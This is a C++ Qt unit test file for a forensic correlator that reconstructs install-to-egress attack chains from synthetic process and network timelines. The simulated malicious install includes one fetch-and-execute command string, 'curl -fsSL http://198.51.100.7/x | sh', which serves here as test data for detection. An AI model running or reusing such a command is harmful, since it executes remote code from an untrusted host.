@@ -1,0 +1,268 @@
+// Correlation semantics on hand-built timelines: each test isolates one rule of
+// spec/analytic.md. End-to-end behaviour on the demo evidence and the real corpus is
+// covered by tst_chains.
+
+#include "correlator.h"
+#include "testsupport.h"
+
+#include <QTest>
+
+using namespace Chainscope;
+using Chainscope::Test::Timeline;
+
+namespace {
+
+constexpr qint64 Second = 1000000;
+constexpr qint64 Minute = 60 * Second;
+constexpr qint64 T0 = 1'770'000'000LL * Second;
+
+// apt-get installs a package whose postinst drops /usr/local/bin/tool; the tool
+// later runs, forks sh -c 'curl … | sh', and curl connects to `egressIp` at
+// `egressAt`. apt's http method downloads from `repoIp`.
+void maliciousInstall(Timeline &t, qint64 egressAt, const QString &egressIp = QStringLiteral("198.51.100.7"),
+    const QString &repoIp = QStringLiteral("203.0.113.50"), qint64 firstRunAt = T0 + 10 * Minute)
+{
+    t.exec(T0, 1000, 900, QStringLiteral("/usr/bin/apt-get"), QStringLiteral("apt-get install qwik"))
+        .fork(T0 + 1 * Second, 1000, 1001, QStringLiteral("/usr/bin/apt-get"))
+        .exec(T0 + 1 * Second + 10, 1001, 1000, QStringLiteral("/usr/lib/apt/methods/http"))
+        .connect(T0 + 2 * Second, 1001, repoIp, 80)
+        .fork(T0 + 5 * Second, 1000, 1002, QStringLiteral("/usr/bin/apt-get"))
+        .exec(T0 + 5 * Second + 10, 1002, 1000, QStringLiteral("/usr/bin/dpkg"), QStringLiteral("dpkg --unpack"))
+        .fork(T0 + 6 * Second, 1002, 1003, QStringLiteral("/usr/bin/dpkg"))
+        .exec(T0 + 6 * Second + 10, 1003, 1002, QStringLiteral("/bin/sh"),
+            QStringLiteral("/bin/sh /var/lib/dpkg/info/qwik.postinst configure"))
+        .write(T0 + 7 * Second, 1003, QStringLiteral("/usr/local/bin/qwik"))
+        .write(T0 + 7 * Second + 5, 1003, QStringLiteral("/tmp/not-monitored"))
+        .exit(T0 + 8 * Second, 1003)
+        .exit(T0 + 9 * Second, 1002)
+        .exit(T0 + 10 * Second, 1000)
+        .exec(T0 + 5 * Minute, 2000, 1, QStringLiteral("/bin/bash"))
+        .fork(firstRunAt - 10, 2000, 2001, QStringLiteral("/bin/bash"))
+        .exec(firstRunAt, 2001, 2000, QStringLiteral("/usr/local/bin/qwik"))
+        .fork(firstRunAt + Second, 2001, 2002, QStringLiteral("/usr/local/bin/qwik"))
+        .exec(firstRunAt + Second + 10, 2002, 2001, QStringLiteral("/bin/sh"),
+            QStringLiteral("sh -c curl -fsSL http://198.51.100.7/x | sh"))
+        .fork(egressAt - 2 * Second, 2002, 2003, QStringLiteral("/bin/sh"))
+        .exec(egressAt - Second, 2003, 2002, QStringLiteral("/usr/bin/curl"))
+        .connect(egressAt, 2003, egressIp, 443);
+}
+
+QList<Chain> correlate(const CaseIndex &index, const Policy &policy)
+{
+    Correlator c(index);
+    return c.run(policy);
+}
+
+} // namespace
+
+class Tst_correlator : public QObject
+{
+    Q_OBJECT
+private slots:
+    void fullChainWithEvidenceAndFlags();
+    void approvedEgressIsExplained();
+    void lateEgressIsANearMissUntilTheWindowGrows();
+    void lateFirstRunIsExplained();
+    void nestedInstallersAreOneSeed();
+    void packageLogEventsJoinTheirInstaller();
+    void installsThatWriteNothingMonitoredAreNotChains();
+    void allowListChangesReuseWorkWindowChangesDoNot();
+    void cancelStopsTheRun();
+};
+
+void Tst_correlator::fullChainWithEvidenceAndFlags()
+{
+    CaseIndex index;
+    Timeline t(index);
+    maliciousInstall(t, T0 + 12 * Minute);
+    t.build();
+    const QList<Chain> chains = correlate(index, Policy::defaults());
+    QCOMPARE(chains.size(), 1);
+    const Chain &c = chains.first();
+    QVERIFY(c.isFull());
+    QVERIFY(!c.approved);
+    QVERIFY2(c.missing.isEmpty(), qPrintable(c.missing.join(u'|')));
+    QCOMPARE(c.host, QStringLiteral("h1"));
+    QCOMPARE(c.installer, QStringLiteral("apt-get install qwik"));
+    QCOMPARE(c.firstRun, QStringLiteral("/usr/local/bin/qwik"));
+    QCOMPARE(c.egress, QStringLiteral("198.51.100.7:443"));
+    QCOMPARE(c.writtenPaths, QStringList {QStringLiteral("/usr/local/bin/qwik")}); // /tmp is not monitored
+    QCOMPARE(
+        c.mismatches, (QStringList {Mismatch::HostNotApproved, Mismatch::RepoNotApproved, Mismatch::UnexpectedChild}));
+    // Evidence per stage, by event id (ids are the timeline's order, 1-based).
+    QCOMPARE(c.stage(Stage::Install)->eventIds, (QList<qint64> {1, 4})); // apt-get exec, repo download
+    QCOMPARE(c.stage(Stage::Write)->eventIds, (QList<qint64> {9}));
+    QCOMPARE(c.stage(Stage::FirstRun)->eventIds, (QList<qint64> {16, 18, 20})); // qwik, sh -c, curl
+    QCOMPARE(c.stage(Stage::Egress)->eventIds, (QList<qint64> {21}));
+    QVERIFY(c.score > 80);
+    // The processes of the chain include the installer, the postinst and curl.
+    QVERIFY(c.processNodes.contains(c.seedNode));
+    QCOMPARE(c.firstRunNodes.size(), 1);
+}
+
+void Tst_correlator::approvedEgressIsExplained()
+{
+    CaseIndex index;
+    Timeline t(index);
+    // A benign update: the new binary itself reaches the vendor's update host.
+    t.exec(T0, 1000, 900, QStringLiteral("/usr/bin/apt-get"), QStringLiteral("apt-get upgrade"))
+        .fork(T0 + Second, 1000, 1001, QStringLiteral("/usr/bin/apt-get"))
+        .exec(T0 + Second + 10, 1001, 1000, QStringLiteral("/usr/bin/dpkg"))
+        .rename(T0 + 2 * Second, 1001, QStringLiteral("/usr/bin/tool"))
+        .exec(T0 + 20 * Minute, 3000, 1, QStringLiteral("/usr/bin/tool"))
+        .connect(T0 + 21 * Minute, 3000, QStringLiteral("192.0.2.10"), 443)
+        .connect(T0 + 21 * Minute, 3000, QStringLiteral("127.0.0.1"), 53);
+    t.build();
+    Policy policy = Policy::defaults();
+    QString error;
+    QVERIFY(policy.applyAssignment(QStringLiteral("ApprovedUpdateHosts=192.0.2.0/24"), &error));
+    const QList<Chain> chains = correlate(index, policy);
+    QCOMPARE(chains.size(), 1);
+    const Chain &c = chains.first();
+    QVERIFY(c.approved);
+    QVERIFY(!c.hasStage(Stage::Egress));
+    QVERIFY(c.hasStage(Stage::FirstRun));
+    QCOMPARE(c.missing.size(), 1);
+    QVERIFY2(c.missing.first().contains(QLatin1String("192.0.2.10:443")), qPrintable(c.missing.first()));
+    QVERIFY2(
+        c.missing.first().contains(QLatin1String("ApprovedUpdateHosts 192.0.2.0/24")), qPrintable(c.missing.first()));
+
+    // Without the allow-list the same egress makes a full chain.
+    const QList<Chain> strict = correlate(index, Policy::defaults());
+    QVERIFY(strict.first().isFull());
+    QVERIFY(!strict.first().approved);
+}
+
+void Tst_correlator::lateEgressIsANearMissUntilTheWindowGrows()
+{
+    CaseIndex index;
+    Timeline t(index);
+    maliciousInstall(t, T0 + 3 * 60 * Minute + 2 * Minute);
+    t.build();
+    Correlator correlator(index);
+    const QList<Chain> chains = correlator.run(Policy::defaults());
+    QCOMPARE(chains.size(), 1);
+    const Chain &near = chains.first();
+    QVERIFY(!near.isFull());
+    QVERIFY(!near.approved);
+    QVERIFY(!near.hasStage(Stage::Egress));
+    QCOMPARE(near.missing.size(), 1);
+    QVERIFY2(near.missing.first().contains(QLatin1String("no egress within 90m")), qPrintable(near.missing.first()));
+    QVERIFY2(near.missing.first().contains(QLatin1String("3 h 2 min")), qPrintable(near.missing.first()));
+    QVERIFY2(near.missing.first().contains(QLatin1String("198.51.100.7:443")), qPrintable(near.missing.first()));
+    QCOMPARE(near.lateEvents.size(), 1);
+
+    Policy wide = Policy::defaults();
+    QString error;
+    QVERIFY(wide.applyAssignment(QStringLiteral("TimeWindow=4h"), &error));
+    const QList<Chain> again = correlator.run(wide);
+    QVERIFY(again.first().isFull());
+    QVERIFY(again.first().missing.isEmpty());
+}
+
+void Tst_correlator::lateFirstRunIsExplained()
+{
+    CaseIndex index;
+    Timeline t(index);
+    maliciousInstall(
+        t, T0 + 5 * 60 * Minute, QStringLiteral("198.51.100.7"), QStringLiteral("203.0.113.50"), T0 + 4 * 60 * Minute);
+    t.build();
+    const QList<Chain> chains = correlate(index, Policy::defaults());
+    QCOMPARE(chains.size(), 1);
+    const Chain &c = chains.first();
+    QCOMPARE(c.stages.size(), 2);
+    QVERIFY2(
+        c.missing.first().contains(QLatin1String("first ran 4 h after the install")), qPrintable(c.missing.first()));
+}
+
+void Tst_correlator::nestedInstallersAreOneSeed()
+{
+    CaseIndex index;
+    Timeline t(index);
+    t.exec(
+         T0, 500, 1, QStringLiteral("/usr/bin/python3"), QStringLiteral("/usr/bin/python3 /usr/bin/unattended-upgrade"))
+        .fork(T0 + 1, 500, 501, QStringLiteral("/usr/bin/python3"))
+        .exec(T0 + 2, 501, 500, QStringLiteral("/usr/bin/dpkg"))
+        .write(T0 + 3, 501, QStringLiteral("/usr/bin/a"))
+        .fork(T0 + 4, 500, 502, QStringLiteral("/usr/bin/python3"))
+        .exec(T0 + 5, 502, 500, QStringLiteral("/usr/bin/dpkg"))
+        .write(T0 + 6, 502, QStringLiteral("/usr/bin/b"));
+    t.build();
+    const QList<Chain> chains = correlate(index, Policy::defaults());
+    QCOMPARE(chains.size(), 1);
+    QCOMPARE(chains.first().writtenPaths, (QStringList {QStringLiteral("/usr/bin/a"), QStringLiteral("/usr/bin/b")}));
+    QVERIFY(chains.first().installer.contains(QLatin1String("unattended-upgrade")));
+}
+
+void Tst_correlator::packageLogEventsJoinTheirInstaller()
+{
+    CaseIndex index;
+    Timeline t(index);
+    t.exec(T0, 1000, 1, QStringLiteral("/usr/bin/dpkg"), QStringLiteral("dpkg -i qwik.deb"))
+        .package(T0 + 2 * Second, QStringLiteral("qwik"))
+        .write(T0 + 3 * Second, 1000, QStringLiteral("/usr/local/bin/qwik"))
+        .exit(T0 + 4 * Second, 1000)
+        // Later, a package log line with no process around it: its own seed, no chain.
+        .package(T0 + 60 * Minute, QStringLiteral("other"));
+    t.build();
+    const QList<Chain> chains = correlate(index, Policy::defaults());
+    QCOMPARE(chains.size(), 1);
+    QCOMPARE(chains.first().stage(Stage::Install)->eventIds, (QList<qint64> {1, 2}));
+    QCOMPARE(chains.first().id, 1);
+}
+
+void Tst_correlator::installsThatWriteNothingMonitoredAreNotChains()
+{
+    CaseIndex index;
+    Timeline t(index);
+    t.exec(T0, 1000, 1, QStringLiteral("/usr/bin/apt-get"))
+        .write(T0 + 1, 1000, QStringLiteral("/var/cache/apt/archives/x.deb"))
+        .exec(T0 + 2, 1100, 1, QStringLiteral("/usr/bin/curl"))
+        .connect(T0 + 3, 1100, QStringLiteral("198.51.100.7"));
+    t.build();
+    QVERIFY(correlate(index, Policy::defaults()).isEmpty());
+}
+
+void Tst_correlator::allowListChangesReuseWorkWindowChangesDoNot()
+{
+    CaseIndex index;
+    Timeline t(index);
+    maliciousInstall(t, T0 + 12 * Minute);
+    t.build();
+    Correlator correlator(index);
+    correlator.run(Policy::defaults());
+    QCOMPARE(correlator.reusedSeeds(), 0);
+
+    Policy hosts = Policy::defaults();
+    QString error;
+    QVERIFY(hosts.applyAssignment(QStringLiteral("ApprovedUpdateHosts=198.51.100.0/24,203.0.113.0/24"), &error));
+    const QList<Chain> approved = correlator.run(hosts);
+    QVERIFY(correlator.reusedSeeds() > 0);
+    // Reused work, new verdict: the egress and the package source are now approved.
+    QVERIFY(!approved.first().hasStage(Stage::Egress));
+    QVERIFY(!approved.first().mismatches.contains(Mismatch::RepoNotApproved));
+    QVERIFY(approved.first().mismatches.contains(Mismatch::UnexpectedChild));
+
+    Policy window = hosts;
+    QVERIFY(window.applyAssignment(QStringLiteral("TimeWindow=5m"), &error));
+    const QList<Chain> narrow = correlator.run(window);
+    QCOMPARE(correlator.reusedSeeds(), 0);
+    QVERIFY(!narrow.first().hasStage(Stage::FirstRun));
+}
+
+void Tst_correlator::cancelStopsTheRun()
+{
+    CaseIndex index;
+    Timeline t(index);
+    maliciousInstall(t, T0 + 12 * Minute);
+    t.build();
+    Correlator correlator(index);
+    std::atomic<bool> cancel {true};
+    QVERIFY(correlator.run(Policy::defaults(), &cancel).isEmpty());
+    // A cancelled run leaves no half-valid cache behind.
+    QCOMPARE(correlator.run(Policy::defaults()).size(), 1);
+    QCOMPARE(correlator.reusedSeeds(), 0);
+}
+
+QTEST_GUILESS_MAIN(Tst_correlator)
+#include "tst_correlator.moc"
